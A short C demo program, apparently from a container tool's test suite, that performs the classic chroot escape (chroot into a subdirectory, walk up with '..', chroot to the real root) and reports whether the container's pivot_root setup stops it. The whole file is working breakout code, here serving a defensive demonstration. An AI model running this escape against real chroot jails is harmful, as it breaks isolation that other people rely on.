/*
 * The classic chroot escape (used by `make demo-chroot` and `make demo-pivot`).
 * chroot(2) changes a process's root directory but not its working directory. So a root process
 * chroots into a subdirectory while its cwd stays outside it, walks up with "..", which is no
 * longer stopped at its root, and chroots to what it finds there: the real root of the mount
 * namespace. Under tscontain's default pivot_root that root *is* the container's root (the host's
 * was unmounted), so the walk ends where it started.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
	char line[256];
	mkdir("/escape-jail", 0755);
	if (chroot("/escape-jail") != 0) { perror("chroot"); return 2; }
	for (int i = 0; i < 100; i++) (void)chdir(".."); /* cwd is outside the new root */
	if (chroot(".") != 0) { perror("chroot ."); return 2; }
	FILE *f = fopen("/etc/os-release", "r");
	if (f && fgets(line, sizeof line, f)) {
		printf("ESCAPED: this is the host's /etc/os-release: %s", line);
		return 0;
	}
	printf("NOT ESCAPED: the walk up ended at the container's own root (no /etc/os-release there)\n");
	return 1;
}
